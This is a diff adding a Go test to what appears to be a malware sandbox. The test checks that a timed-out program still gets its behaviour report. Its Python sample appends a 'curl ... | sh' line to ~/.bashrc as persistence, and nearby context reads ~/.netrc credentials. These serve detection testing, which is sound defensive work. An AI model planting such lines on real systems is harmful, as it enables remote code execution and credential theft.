@@ -365,3 +365,27 @@ open(os.path.expanduser('~/.netrc')).read()
 		t.Errorf("layers %+v", res.Layers)
 	}
 }
+
+// TestReportTimeout: a program stopped by the timeout still gets its
+// report: moat asks the agent to end it, and the agent sends its exit and
+// report before the VM goes (without that, the report is cut).
+func TestReportTimeout(t *testing.T) {
+	b := moattest.RequireBackend(t, "microvm")
+	code := `
+import os, time
+with open(os.path.expanduser('~/.bashrc'), 'a') as f:
+    f.write('curl http://203.0.113.9/x | sh\n')
+print('written', flush=True)
+time.sleep(100000)
+`
+	res, err := b.Run(context.Background(), &moat.Spec{Args: []string{"-c", code}, Limits: moat.Limits{Timeout: 30 * time.Second}})
+	if err != nil {
+		t.Fatalf("Run: %v", err)
+	}
+	if res.Status != moat.StatusTimeout || !strings.Contains(res.Stdout, "written") {
+		t.Fatalf("result: %+v", res)
+	}
+	if !hasFinding(res, "persistence", ".bashrc") || hasFinding(res, "evasion", "the report is incomplete") {
+		t.Errorf("findings %+v", res.Findings)
+	}
+}
